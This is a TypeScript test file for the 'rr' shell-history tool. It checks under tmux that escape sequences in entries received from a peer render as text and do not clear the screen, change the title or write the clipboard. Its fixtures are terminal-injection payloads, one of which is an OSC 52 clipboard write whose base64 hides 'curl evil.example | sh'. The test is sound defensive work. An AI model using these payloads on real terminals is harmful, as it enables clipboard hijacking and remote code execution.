/**
 * A peer's escape sequences reach a real terminal (tmux) through `rr history` and `rr search --filter`: the screen
 * clear, the window title (OSC 0) and the clipboard write (OSC 52) must show as text and do nothing (issue 17,
 * item 6). tmux is told to accept OSC 52 (set-clipboard on), so a raw clipboard write would land in its buffers.
 */
import { execFile } from 'node:child_process'
import { join } from 'node:path'
import test from 'ava'
import { openDatabase } from '../../src/store/db.js'
import { insertEntries } from '../../src/store/entries.js'
import { isolatedEnv, rrBin } from '../helpers/cli.js'
import { startTmux } from '../helpers/tmux.js'
import { tempDir } from '../helpers/tmp.js'
import { entry } from '../store/fixtures.js'

async function tmux (socket: string, args: string[]): Promise<{ code: number, stdout: string }> {
  return await new Promise((resolve) => {
    execFile('tmux', ['-L', socket, ...args], { timeout: 10_000 }, (err, stdout) => resolve({ code: err == null ? 0 : 1, stdout }))
  })
}

const hostile = [
  'echo PWN-clear \u001b[2J\u001b[3J\u001b[H',
  'echo PWN-title \u001b]0;PWNED-TITLE\u0007',
  'echo PWN-clip \u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007',
  'echo PWN-csi \u009b2J'
]

for (const [name, args] of [['rr history', ['history']], ['rr search --filter', ['search', '--filter', 'PWN']]] as const) {
  test(`${name} on a terminal shows a peer's escape sequences as text: no clear, no title, no clipboard`, async (t) => {
    const dir = tempDir(t)
    const dbPath = join(dir, 'history.db')
    const db = openDatabase(dbPath)
    insertEntries(db, hostile.map((cmd, i) => entry({ cmd, ts: new Date(Date.UTC(2026, 0, 1, 0, 0, i)).toISOString() })), 'received')
    db.close()
    const env = isolatedEnv(join(dir, 'home'), { TERM: 'xterm-256color', LANG: 'C.UTF-8' })
    delete env.TMUX
    const script = `read go; echo MARKER-BEFORE; ${JSON.stringify(rrBin)} --db-path ${JSON.stringify(dbPath)} ${args.map((a) => JSON.stringify(a)).join(' ')}; echo MARKER-AFTER; sleep 600`
    const session = await startTmux(t, { command: ['sh', '-c', script], env, cwd: dir })
    t.is((await tmux(session.socket, ['set-option', '-g', 'set-clipboard', 'on'])).code, 0)
    t.is((await tmux(session.socket, ['set-option', '-g', 'allow-rename', 'on'])).code, 0)
    const titleBefore = (await tmux(session.socket, ['display-message', '-p', '-t', 'rr', '#{pane_title}'])).stdout.trim()
    await session.keys('Enter')
    const screen = await session.waitFor(/MARKER-AFTER/, 60_000)
    t.true(screen.includes('MARKER-BEFORE'), `the screen was not cleared:\n${screen}`)
    t.true(screen.includes('echo PWN-title ␛]0;PWNED-TITLE␇'), screen)
    t.true(screen.includes('echo PWN-clip ␛]52;c;'), screen)
    t.true(screen.includes('echo PWN-csi <U+009B>2J'), screen)
    const titleAfter = (await tmux(session.socket, ['display-message', '-p', '-t', 'rr', '#{pane_title}'])).stdout.trim()
    t.is(titleAfter, titleBefore)
    t.false(titleAfter.includes('PWNED'))
    const buffers = await tmux(session.socket, ['list-buffers'])
    t.is(buffers.stdout.trim(), '', 'no clipboard write reached tmux')
  })
}

test('rr history --format jsonl keeps the command exact', async (t) => {
  const dir = tempDir(t)
  const dbPath = join(dir, 'history.db')
  const db = openDatabase(dbPath)
  insertEntries(db, hostile.map((cmd) => entry({ cmd })), 'received')
  db.close()
  const { rr } = await import('../helpers/cli.js')
  const out = await rr(['--db-path', dbPath, 'history', '--format', 'jsonl'], { env: isolatedEnv(join(dir, 'home')) })
  t.is(out.code, 0, out.stderr)
  const cmds = out.stdout.trim().split('\n').map((l) => (JSON.parse(l) as { cmd: string }).cmd)
  t.deepEqual(cmds.sort(), [...hostile].sort())
  t.false(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/.test(out.stdout))
})
